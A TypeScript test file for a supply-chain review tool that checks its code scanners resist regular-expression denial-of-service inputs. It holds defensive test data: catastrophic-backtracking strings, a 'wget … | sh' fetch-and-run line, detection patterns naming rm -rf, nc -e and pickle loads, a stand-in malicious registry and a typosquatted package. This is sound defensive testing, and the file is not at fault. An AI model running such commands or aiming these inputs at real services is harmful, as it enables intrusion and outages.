import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { installSettingFindings } from '../../src/app/review/install-settings.js';
import { namedBy, requirementIncludes } from '../../src/app/review/named-inputs.js';
import { workflowRegistryFindings } from '../../src/app/review/workflow-registries.js';
import { findJavaScriptReferencesFast, hasParameterDefault } from '../../src/refs/javascript-fast.js';
import { findConfigReferencesWithYaml } from '../../src/refs/config.js';
import { findPythonReferences } from '../../src/refs/python.js';
import { readPythonHubSettings } from '../../src/refs/python-env.js';
import { DECLARATION } from '../../src/refs/python-scopes.js';
import { findShellReferences } from '../../src/refs/shell-commands.js';
import { codeShapeOf } from '../../src/core/code-shape.js';
import type { FileReferences } from '../../src/refs/types.js';

// Scanned source lines that V8's backtracking engine (or a rescan from the line's start) ran in exponential,
// cubic or quadratic time. Each hostile input is sized so that the code before the fix would not return in the
// lifetime of the test run (figures in the comments, one core of the shared machine); after it, each is one pass.
const noLocal = () => false;
const refs = (found: { references: readonly { repoId?: string; line: number; column: number }[] }) =>
  found.references.map((r) => `${r.repoId}@${r.line}:${r.column}`);

describe('shell scripts: the options before a shell`s -c', () => {
  it.each([
    // Each `--l--l` was one long option or `--l-` and `-l`: 2^n ways; 24 of them (77 characters) took 19 s.
    { name: 'run-together long options', line: `sh${'--l'.repeat(40)}x` },
    { name: 'options glued by quotes', line: `sh${'-a"'.repeat(40)}x` },
    // Each `su` read the rest of the line as its user and arguments looking for a `-c`: 90 KB took 12 s.
    { name: 'su su su …', line: `${'su '.repeat(350_000)}x` },
    { name: 'runuser runuser …', line: `${'runuser '.repeat(130_000)}x` },
  ])('$name: the download after it is read', ({ line }) => {
    const text = `${line}\nhuggingface-cli download acme/after\n`;
    expect(refs(findShellReferences('run.sh', text, noLocal))).toEqual(['acme/after@2:26']);
  });

  it('scripts handed to a shell are read as before', () => {
    const text =
      "bash -lc 'huggingface-cli download acme/inner'\n" +
      '/bin/sh --login -c "huggingface-cli download acme/two"\n' +
      "su - app -c 'huggingface-cli download acme/su'\n" +
      'RUN ["/bin/bash", "-euxc", "huggingface-cli download acme/exec"]\n';
    expect(refs(findShellReferences('run.sh', text, noLocal))).toEqual([
      'acme/inner@1:36',
      'acme/two@2:46',
      'acme/su@3:39',
      'acme/exec@4:54',
    ]);
  });
});

describe('shell words with quotes', () => {
  it('an unterminated double quote of escaped quotes in a loop list is read in one pass', () => {
    // Each `"` of `a\"\"\"…` opened a string read to the end again: 40 KB took 8.6 s, quadratic.
    const text = `for x in a${'\\"'.repeat(300_000)}; do huggingface-cli download acme/$x; done\nhuggingface-cli download acme/after\n`;
    expect(refs(findShellReferences('run.sh', text, noLocal))).toEqual(['acme/after@2:26']);
  });

  it('loop lists are read as before', () => {
    const text = 'for m in "acme/a" \'acme/b\'; do\n  huggingface-cli download $m\ndone\n';
    expect(findShellReferences('run.sh', text, noLocal).references.map((r) => r.repoId)).toEqual(['acme/a', 'acme/b']);
  });
});

describe('Kubernetes containers: the options before a shell`s -c', () => {
  const pod = (option: string) =>
    'apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\nspec:\n  containers:\n    - name: x\n' +
    `      image: vllm/vllm-openai\n      command: ["/bin/sh", "${option}", "-c"]\n      args: ["vllm serve acme/k8s"]\n`;

  it.each([
    // `/^-[a-zA-Z]*c[a-zA-Z]*$/` tried every `c`: a 30 KB option took 1.5 s, quadratic.
    { name: 'a long option of c that is none', option: `-${'c'.repeat(1_000_000)}!` },
    { name: 'an ordinary option', option: '-e' },
  ])('$name: the script after -c is read', ({ option }) => {
    expect(refs(findConfigReferencesWithYaml('k8s/pod.yaml', pod(option), noLocal))).toEqual(['acme/k8s@10:26']);
  });
});

describe('Makefile assignments', () => {
  it('a line of blanks that ends in a comment with a carriage return is no assignment, and costs one pass', () => {
    // Cubic before: the value's two `\s*` and its lazy body split the blanks three ways (3 KB took 15 s).
    const pad = `PAD = ${'\t'.repeat(30_000)}x${'\t'.repeat(30_000)}#\rx`;
    const text = `${pad}\nMODEL ?= acme/make-model # the default\nall:\n\thuggingface-cli download $(MODEL)\n`;
    expect(refs(findShellReferences('Makefile', text, noLocal))).toEqual(['acme/make-model@4:27']);
  });

  it.each([
    { line: 'MODEL = acme/a', want: 'acme/a' },
    { line: 'export MODEL := \t acme/b \t# note', want: 'acme/b' },
    { line: 'override MODEL ::= acme/c#x', want: 'acme/c' },
    { line: 'MODEL:::=acme/d   ', want: 'acme/d' },
  ])('$line sets MODEL to $want', ({ line, want }) => {
    const text = `${line}\nall:\n\thuggingface-cli download $(MODEL)\n`;
    expect(findShellReferences('Makefile', text, noLocal).references.map((r) => r.repoId)).toEqual([want]);
  });

  it('a comment a carriage return breaks makes no assignment (the expression did not match it)', () => {
    const text = 'MODEL = acme/set\nMODEL = acme/other # x\r y\nall:\n\thuggingface-cli download $(MODEL)\n';
    expect(findShellReferences('Makefile', text, noLocal).references.map((r) => r.repoId)).toEqual(['acme/set']);
  });
});

describe('JavaScript parameter defaults (the parser-free reader`s screen)', () => {
  it.each([
    // A space is both an annotation's blank and a type character: `(c:` and 60,000 spaces took 3 s, quadratic.
    { name: 'an annotation of spaces', text: `const s = "(c:${' '.repeat(1_000_000)}x";\n` },
    // Each `,a='x'` sliced and counted its line again from the start: 80 KB took 9.5 s.
    {
      name: "a line of ,a='x' after stray )",
      text: `const s = "${')'.repeat(340_000)}${",a='x'".repeat(110_000)}";\n`,
    },
  ])('$name: no default, read in one pass', ({ text }) => {
    expect(hasParameterDefault(text)).toBe(false);
  });

  it('a file with the hostile line is still read by the parser-free reader', () => {
    const text =
      "import { pipeline } from '@huggingface/transformers';\nawait pipeline('x', 'acme/js');\n" +
      `const s = "${')'.repeat(20_000)}${",a='x'".repeat(10_000)}(c:${' '.repeat(100_000)}x";\n`;
    expect(findJavaScriptReferencesFast('app.js', text, noLocal)?.references.map((r) => r.repoId)).toEqual(['acme/js']);
  });

  it.each([
    { text: "function load(model = 'acme/x') {}", want: true },
    { text: 'function load(model: string | undefined = "acme/x") {}', want: true },
    { text: 'function load(model:\t Map<string|number> = base) {}', want: true },
    { text: "// pipeline(task, model = 'acme/x')", want: false },
    { text: " * load(model = 'acme/x')", want: false },
    { text: "f(); g(model = 'acme/x')", want: true },
    { text: "(x); const o = { a, model = 'acme/x' }", want: false },
    { text: "/\\(/.test(s), y = 'z'", want: false },
    { text: "f(a)\n, model = 'acme/x'", want: false },
    { text: 'f(n = null)', want: false },
  ])('$text → $want (as before)', ({ text, want }) => {
    expect(hasParameterDefault(text)).toBe(want);
  });
});

describe('Python: an import of LlamaIndex`s Settings', () => {
  const settings = (text: string) => {
    const out: FileReferences = { references: [], dynamic: [] };
    const at = (offset: number) => ({ line: text.slice(0, offset).split('\n').length, column: 1 });
    readPythonHubSettings('app.py', text, at, out, noLocal);
    return out.references.map((r) => `${r.repoId}@${r.line}`);
  };
  const SET = 'Settings.embed_model = "local:acme/embed"\n';

  it('a megabyte of blanks after `import` is read in one pass', () => {
    // `import[ \t]+[^\n#(]*` split the blanks every way: 40 KB took 7.9 s, quadratic.
    const hostile = `from llama_index import${' \t'.repeat(500_000)}x\n`;
    expect(settings(`${hostile}from llama_index.core import Settings\n${SET}`)).toEqual(['acme/embed@3']);
    expect(settings(`${hostile}${SET}`)).toEqual([]);
  });

  it.each([
    { line: 'from llama_index.core import Settings', want: ['acme/embed@2'] },
    { line: 'from llama_index.core import\tVectorStoreIndex, Settings', want: ['acme/embed@2'] },
    { line: 'from llama_index.core import (\n    Settings,\n)', want: ['acme/embed@4'] },
    { line: 'from llama_index.core import Settings as S', want: [] },
    { line: 'from llama_index.core import(Settings)', want: [] },
  ])('$line → $want (as before)', ({ line, want }) => {
    expect(settings(`${line}\n${SET}`)).toEqual(want);
  });
});

describe('Python: an ultralytics asset name', () => {
  it('yolo and half a megabyte of digits is no asset, read in one pass', () => {
    // `yolo(?:v?\d+…)[\w.-]*` split the digits every way: 30 KB took 2 s, quadratic.
    const text = `from ultralytics import YOLO\nm = YOLO("yolo${'0'.repeat(500_000)}!")\nk = YOLO("yolov8n.pt")\n`;
    const found = findPythonReferences('app.py', text, noLocal);
    expect(found.references).toEqual([]);
    expect(found.dynamic.map((r) => `${r.via} ${r.table}@${r.line}`)).toEqual(['YOLO yolov8n.pt@3']);
  });
});

describe('Python: a settings factory`s decorator', () => {
  const factory = (decorator: string) =>
    'from functools import lru_cache\nfrom pydantic_settings import BaseSettings\nfrom transformers import AutoModel\n' +
    'class Settings(BaseSettings):\n    model_id: str = "acme/served"\n' +
    `${decorator}\ndef get_settings():\n    return Settings()\nm = AutoModel.from_pretrained(get_settings().model_id)\n`;
  const read = (text: string) => {
    const found = findPythonReferences('app.py', text, noLocal);
    return [...found.references.map((r) => `${r.repoId}@${r.line}`), ...found.dynamic.map((d) => `dynamic@${d.line}`)];
  };

  it('a megabyte of blanks before a continued line is read in one pass', () => {
    // `([\w.]+)\s*(?:\(…\))?\s*$` split the blanks between its two `\s*` every way when the end did not match:
    // 40 KB took 2.4 s, quadratic (about 25 minutes here). Valid Python: the decorator is `lru_cache()`.
    const decorator = `@lru_cache${' '.repeat(1_000_000)}\\\n()`;
    expect(read(factory(decorator))).toEqual(['dynamic@10']);
  });

  it.each([
    { decorator: '@lru_cache', want: ['acme/served@9'] },
    { decorator: '@lru_cache (maxsize=1)  ', want: ['acme/served@9'] },
    { decorator: '@ lru_cache\t', want: ['acme/served@9'] },
    { decorator: '@lru_cache \\\n()', want: ['dynamic@10'] },
  ])('$decorator → $want (as before)', ({ decorator, want }) => {
    expect(read(factory(decorator))).toEqual(want);
  });
});

describe('Python: a `global` / `nonlocal` statement (python-scopes.ts)', () => {
  // `other`'s hostile line is `global name` continued by `\`, a declaration as CPython reads it (python-scopes.ts
  // `declarationText` joins the lines): `other`'s `name` is the module's. With `load`'s declaration too, the module's
  // `name` has three values, each load of it dynamic; without it, `load`'s `name` is its own.
  const file = (declaration: string, blanks = '') =>
    'from transformers import AutoModel\nname = "acme/module"\n' +
    `def other():\n    global${blanks}\\\n        name\n    name = "acme/local"\n    return AutoModel.from_pretrained(name)\n` +
    `def load():\n    ${declaration}\n    name = "acme/global"\n    return AutoModel.from_pretrained(name)\n` +
    'def use():\n    return AutoModel.from_pretrained(name)\n';
  const read = (text: string) => {
    const found = findPythonReferences('app.py', text, noLocal);
    return [...found.references.map((r) => `${r.repoId}@${r.line}`), ...found.dynamic.map((d) => `dynamic@${d.line}`)];
  };
  const declared = ['dynamic@7', 'dynamic@11', 'dynamic@13'];
  const undeclared = ['acme/global@11', 'dynamic@7', 'dynamic@13'];

  it('a megabyte of blanks before a continued line is read in one pass, and the next declaration still counts', () => {
    // `[ \t]+([\w \t,]+)$` split the blanks between the keyword's run and the names every way when the end did not
    // match: 30 KB took 0.8 s, quadratic (a scan of 120 KB: 10 s CPU; this about 15 minutes).
    expect(read(file('global name', ' '.repeat(1_000_000)))).toEqual(declared);
  });

  it.each([
    { declaration: 'global name', want: declared },
    { declaration: 'global\t name ,other', want: declared },
    { declaration: 'global \t', want: undeclared },
    { declaration: 'pass', want: undeclared },
  ])('$declaration', ({ declaration, want }) => {
    expect(read(file(declaration))).toEqual(want);
  });

  it('DECLARATION matches as the expression with blanks in both runs', () => {
    const before = /^(global|nonlocal)[ \t]+([\w \t,]+)$/;
    const pieces = ['global', 'nonlocal', ' ', '\t', 'a', '1', ',', '\\', '\n', '#', '\u2028', 'é'];
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...pieces), { maxLength: 16 }).map((a) => a.join('')),
        (s) => {
          expect(DECLARATION.exec(s)?.slice(1)).toEqual(before.exec(s)?.slice(1));
        },
      ),
      { numRuns: 5000 },
    );
  });
});

// safetensors `__metadata__` values (a header up to 100 MB) and Keras config strings. The `import` statement's
// `^\s*` rescanned a run of blank lines from each line start (40,000: 3.7 s; a 400 KB file scanned 35 s), the
// downloader's `curl\b[^\n|;]*\|` the rest of the line from each `curl` (200 KB: 7 s). These would take hours.
describe('model metadata shaped like code (CPI133, core/code-shape.ts)', () => {
  it.each([
    { name: 'blank lines before an import', text: `${'\n'.repeat(2_000_000)}x\nimport os`, want: 'Python' },
    { name: 'blank lines with spaces', text: `${' \n'.repeat(1_000_000)}x;\n import socket;`, want: 'Python' },
    { name: 'curl curl … on one line', text: `${'curl '.repeat(400_000)}\nwget -qO- x.example | sh`, want: 'shell' },
    { name: 'curl curl … with no pipe', text: `${'curl '.repeat(400_000)}x`, want: undefined },
  ])('$name', ({ text, want }) => {
    expect(codeShapeOf(text)).toBe(want);
  });

  it('reads as the expressions with the unbounded runs', () => {
    const python =
      /\b__import__\s*\(|\b(?:exec|eval|compile)\s*\(\s*["'a-z_]|\bos\s*\.\s*(?:system|popen|exec[lv]p?e?|spawn[lv]p?e?)\s*\(|\bsubprocess\s*\.\s*[A-Za-z_]+\s*\(|\b(?:pickle|marshal|dill|cloudpickle)\s*\.\s*loads?\s*\(|(?:^|;)\s*(?:import|from)\s+(?:os|sys|subprocess|socket|base64|pty|shutil|ctypes|urllib|requests)(?:\.\w+)*(?:\s*(?:;|$)|[^\S\n\r]*,[^\S\n\r]*\w|\s+import\b)/m;
    const shell =
      /\brm\s+-(?:rf|fr|r)\s|\b(?:curl|wget)\b[^\n|;]*\|\s*(?:ba|z|da)?sh\b|\bchmod\s+(?:\+x|[0-7]?77[0-7])\s|\/bin\/(?:ba)?sh\s+-c\b|\bnc\s+(?:-\w+\s+)*-e\s/;
    const before = (s: string) => (python.test(s) ? 'Python' : shell.test(s) ? 'shell' : undefined);
    const pieces = [
      'import',
      'from',
      'os',
      ',',
      '.',
      'curl',
      'wget',
      'sh',
      'bash',
      'x',
      ' ',
      '\t',
      '\n',
      '\r',
      '\u2028',
      '\v',
      ';',
      '|',
    ];
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...pieces), { maxLength: 14 }).map((a) => a.join('')),
        (s) => {
          expect(codeShapeOf(s)).toBe(before(s));
        },
      ),
      { numRuns: 20000 },
    );
  });
});

// `chainproof review` reads these from the pull request. Each setting line below took the old expression cubic
// time in its run of blanks (a 6 KB `.yarnrc` line: a 91 s review; these would take days); each `#` comment
// expression quadratic time in a line of `#\t#\t…` (80 KB: 6.7 s; these a megabyte: about 20 minutes).
describe('review: the setting lines of package-manager configs', () => {
  const blanks = '\t'.repeat(150_000);
  const cleanups: (() => void)[] = [];
  afterAll(() => cleanups.forEach((c) => c()));

  // Alone, the hostile line names what its reader makes of it: npm's ini parser no setting; pnpm's js-yaml `load`
  // the plain scalar `f<blanks>"n` (tabs inside a plain scalar are its own), a pnpmfile by that name.
  it.each([
    {
      file: '.npmrc',
      hostile: `pnpmfile=${blanks}f${blanks}"p`,
      line: 'pnpmfile = "hooks/pnpmfile.cjs"',
      alone: [],
    },
    {
      file: 'pnpm-workspace.yaml',
      hostile: `pnpmfile:${blanks}f${blanks}"n`,
      line: "pnpmfile: 'hooks/pnpmfile.cjs'",
      alone: [{ path: `f${blanks}"n`, kind: 'code' }],
    },
  ])('$file: the pnpmfile after a line of blanks', ({ file, hostile, line, alone }) => {
    expect(namedBy(file, `${hostile}\n${line}\n`, false)).toEqual([{ path: 'hooks/pnpmfile.cjs', kind: 'code' }]);
    expect(namedBy(file, `${hostile}\n`, false)).toEqual(alone);
  });

  it.each([
    // An empty value is no setting: the default pnpmfiles (pnpm 11+ prefers .mjs).
    { file: '.npmrc', text: 'pnpmfile=\t', want: ['.pnpmfile.mjs', '.pnpmfile.cjs'] },
    { file: '.npmrc', text: "  pnpmfile = 'a.cjs' # x", want: [] },
    { file: '.npmrc', text: 'pnpmfile=a.cjs ;x\npnpmfile=b.cjs', want: ['b.cjs'] },
    { file: 'pnpm-workspace.yaml', text: 'pnpmfile: "a.cjs"  \u2028x', want: ['a.cjs'] },
  ])('$file $text → $want (as before)', ({ file, text, want }) => {
    expect(namedBy(file, text, false).map((n) => n.path)).toEqual(want);
  });

  it('.yarnrc: the yarn-path after a line of blanks, through a review', async () => {
    const { makeRepo, reviewHead } = await import('../app/review/repo.js');
    const yarnPath = 'yarn-path "./tools/yarn.js"\n';
    const repo = makeRepo(
      { '.yarnrc': yarnPath, 'tools/yarn.js': 'module.exports = 1;\n' },
      { '.yarnrc': `yarn-path\t${blanks}x${blanks}"x\n${yarnPath}`, 'tools/yarn.js': 'module.exports = 2;\n' },
    );
    cleanups.push(repo.cleanup);
    const r = await reviewHead(repo.dir);
    const rules = r.findings.map((f) => `${f.ruleId}@${f.location.path}`);
    expect(rules).toContain('CPU026@tools/yarn.js');
  });

  it('requirements: the -r and --no-binary after a line of comments are read', () => {
    const text = `--only-binary :all: ${'#\t'.repeat(500_000)}\r#\n--no-binary torch # more\n-r extra.txt # more\n`;
    expect(requirementIncludes(text)).toEqual(['extra.txt']);
    const found = installSettingFindings([{ path: 'requirements.txt', base: '', head: text }], []);
    expect(found.map((f) => `${f.ruleId}@${f.location.line}: ${f.evidence?.after}`)).toEqual([
      'CPU026@2: --no-binary=torch',
    ]);
  });

  it('a workflow: the registry after a line of comments is read', () => {
    const head = `run: echo ${'#\t'.repeat(500_000)}\r#\nrun: npm config set registry https://npm.evil.example/ # x\n`;
    const found = workflowRegistryFindings([{ path: '.github/workflows/ci.yml', base: '', head }], []);
    expect(found.map((f) => `${f.ruleId}@${f.location.line}: ${f.evidence?.settings}`)).toEqual([
      'CPU025@2: config set registry: https://npm.evil.example/',
    ]);
  });
});

describe('review: look-alike renames among many long names', () => {
  const cleanups: (() => void)[] = [];
  afterAll(() => cleanups.forEach((c) => c()));

  it('400 direct dependencies of 214 characters swapped for 400 others: the one look-alike is found', async () => {
    // Each removed name was held to each added one with the whole edit-distance table: 150 of each at 200
    // characters took 30 s of CPU, so these about four minutes; a bounded band is 650 cells a pair.
    const { makeRepo, reviewHead } = await import('../app/review/repo.js');
    const { manifest, npmLock, sri } = await import('../app/review/npm-lock.js');
    let seed = 7;
    const letter = () => String.fromCharCode(97 + ((seed = (seed * 48271) % 2147483647) % 26));
    // npm's longest name, 214 characters (validate-npm-package-name).
    const name = () => Array.from({ length: 214 }, letter).join('');
    const project = (names: string[]) => {
      const deps = Object.fromEntries(names.map((n) => [n, '1.0.0']));
      const pkgs = Object.fromEntries(
        names.map((n, i) => [
          n,
          { version: '1.0.0', resolved: `https://registry.npmjs.org/${n}/-/${n}-1.0.0.tgz`, integrity: sri(i % 256) },
        ]),
      );
      return { 'package.json': manifest(deps), 'package-lock.json': npmLock(deps, pkgs) };
    };
    const before = Array.from({ length: 400 }, name);
    const after = Array.from({ length: 400 }, name);
    const repo = makeRepo(project([...before, 'lodash']), project([...after, 'lodahs']));
    cleanups.push(repo.cleanup);
    const r = await reviewHead(repo.dir);
    const found = r.findings.filter((f) => f.ruleId === 'CPU037');
    expect(found.map((f) => `${f.evidence?.['from']} → ${f.evidence?.['to']}`)).toEqual(['lodash → lodahs']);
  });
});

describe('review: a Plug`n`Play package location through __virtual__', () => {
  const cleanups: (() => void)[] = [];
  afterAll(() => cleanups.forEach((c) => c()));

  it('4 MB of virtual segments before a line break: the moved package is reported', async () => {
    // The location expression read the rest of the path from every `__virtual__/` (the line break kept `.*` from the
    // end): 270 KB cost 1.6 s of CPU in a review, so this about six minutes.
    const { makeRepo, reviewHead } = await import('../app/review/repo.js');
    const map = (location: string) =>
      JSON.stringify({
        packageRegistryData: [['left-pad', [['npm:1.3.0', { packageLocation: location, linkType: 'HARD' }]]]],
      });
    const lock =
      '__metadata:\n  version: 8\n  cacheKey: 10c0\n\n"app@workspace:.":\n  version: 0.0.0-use.local\n' +
      '  resolution: "app@workspace:."\n  dependencies:\n    left-pad: "npm:1.3.0"\n  languageName: unknown\n' +
      '  linkType: soft\n\n"left-pad@npm:1.3.0":\n  version: 1.3.0\n  resolution: "left-pad@npm:1.3.0"\n' +
      `  checksum: 10c0/${'0'.repeat(128)}\n  languageName: node\n  linkType: hard\n`;
    const repo = makeRepo(
      {
        'package.json': '{"name":"app","dependencies":{"left-pad":"1.3.0"}}\n',
        '.yarnrc.yml': 'enableGlobalCache: false\nnodeLinker: pnp\n',
        'yarn.lock': lock,
        '.pnp.data.json': map('./.yarn/cache/left-pad-npm-1.3.0-0382e69409-0000000000.zip/node_modules/left-pad/'),
      },
      {
        '.pnp.data.json': map(
          `./.yarn/cache/u${'/__virtual__/i/0/'.repeat(250_000)}/__virtual__/\n/0/node_modules/left-pad/`,
        ),
      },
    );
    cleanups.push(repo.cleanup);
    const r = await reviewHead(repo.dir);
    expect(r.findings.filter((f) => f.ruleId === 'CPU036').map((f) => `${f.level}@${f.location.path}`)).toEqual([
      'error@.pnp.data.json',
    ]);
  });
});
